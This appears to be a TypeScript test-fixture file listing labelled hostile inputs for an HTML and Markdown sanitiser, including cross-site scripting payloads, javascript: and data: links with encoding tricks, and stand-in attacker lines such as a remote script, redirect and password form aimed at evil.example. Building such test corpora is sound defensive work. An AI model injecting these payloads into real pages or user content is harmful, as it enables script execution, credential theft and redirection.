/** Texts that would do something in a page whose maker does not expect them, by what they try. */
export const hostileTexts: readonly [what: string, text: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script in upper case', '</DIV></SECTION><SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script behind a null', '<\0script>alert(1)</script>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['a drawing with a handler', '<svg/onload=alert(1)><script>alert(1)</script></svg>'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['mathematics', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a form', '<form action="https://evil.example/"><input name=password><button>Go'],
  ['a style', '<style>@import "https://evil.example/";</style><p style="position:fixed;inset:0">'],
  [
    'a template',
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
  ['a comment', '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>'],
  ['the end of the page', '</main></body></html><plaintext>'],
  ['the end of a text area', '</textarea></title></style></script><img src=x onerror=alert(1)>'],
  [
    'an entity for a tag',
    '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  ],
  ['quotes', '" onmouseover="alert(1)" \' onfocus=\'alert(1)\' autofocus `onclick=alert(1)`'],
  ['a link to a script', '[a](javascript:alert(1))'],
  ['a link in mixed case', '[a](JaVaScRiPt:alert(1)) [b](<JAVASCRIPT:alert(1)>)'],
  [
    'a link with entities',
    '[a](&#106;avascript&colon;alert&lpar;1&rpar;) [b](javascript&#x3A;alert(1))',
  ],
  [
    'a link with control characters',
    '[a](java\u0001script:alert(1)) [b](\u0001javascript:alert(1)) [c](<java\tscript:alert(1)>)',
  ],
  ['a link with blanks', '[a](<  javascript:alert(1)>) [b](<java script:alert(1)>)'],
  ['a link with a percent', '[a](javascript%3Aalert(1)) [b](%6Aavascript:alert(1))'],
  [
    'a link with a backslash',
    '[a](java\\script:alert(1)) [b](\\javascript:alert(1)) [c](https:\\\\evil.example)',
  ],
  ['a link to data', '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  [
    'a link to an image of data',
    '[a](data:image/svg+xml,<svg/onload=alert(1)>) ![b](data:image/png;base64,AAAA)',
  ],
  [
    'links of other schemes',
    '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](intent:x) [e](view-source:x) [f](ftp://a.example)',
  ],
  [
    'links into the service',
    '[a](/admin/keys) [b](../../docs) [c](?format=json) [d](#content) [e](//evil.example/) [f](admin)',
  ],
  [
    'a link whose title ends',
    '[a](https://a.example "x\\" onclick=\\"alert(1)") [b](https://a.example \'" onclick="alert(1)\')',
  ],
  [
    'a link whose address ends',
    '[a](https://a.example/"onclick="alert(1)) [b](<https://a.example/" onclick="alert(1)>)',
  ],
  [
    'a reference',
    '[a][b]\n\n[b]: javascript:alert(1)\n[c]: https://a.example "\\" onclick=\\"alert(1)"\n\n[c]',
  ],
  [
    'an automatic link',
    '<javascript:alert(1)> <data:text/html,x> <https://a.example/"onclick=alert(1)> <a@b.example>',
  ],
  [
    'an address',
    'https://a.example/"onmouseover="alert(1) https://a.example/<script>alert(1)</script> javascript:alert(1)',
  ],
  [
    'an address with a name',
    'https://bank.example@evil.example/ mailto:a@b.example?subject=x ftp://a.example //evil.example',
  ],
  [
    'an image',
    '![a](https://evil.example/track.png) ![b](javascript:alert(1)) ![" onerror="alert(1)](https://a.example)',
  ],
  [
    'an image in a link',
    '[![a](https://evil.example/x.png)](https://evil.example/) [a ![b [c](https://d.example)](https://e.example) f](https://g.example)',
  ],
  ['an image by reference', '![a][x]\n\n[x]: javascript:alert(1)'],
  [
    'a language of code',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  ],
  ['code in a line', '`</code><script>alert(1)</script>`'],
  ['code by indentation', '    </code></pre><script>alert(1)</script>'],
  [
    'a table',
    '|<script>|" onclick="|\n|:-:|-:|\n|</td></table><script>alert(1)</script>|[a](javascript:alert(1))|',
  ],
  ['a heading', '# <img src=x onerror=alert(1)> {#id onclick=alert(1)}\n\n<h1 onclick=alert(1)>'],
  ['a list', '- <li onclick=alert(1)>\n  1. [x](javascript:alert(1))\n0. a\n999999999. b'],
  [
    'a quote',
    '> <blockquote cite="javascript:alert(1)">\n> > </blockquote><script>alert(1)</script>',
  ],
  ['separators of lines', 'a\u2028<script>alert(1)</script>\u2029[a](javascript:\u2028alert(1))'],
  ['another direction', '\u202e<script>alert(1)</script>\u202c\u2066[a](javascript:alert(1))'],
  ['letters of full width', '＜script＞alert(1)＜/script＞ [a](ｊavascript:alert(1))'],
  ['half a character', '\ud83d<script>alert(1)</script>\ude00'],
];
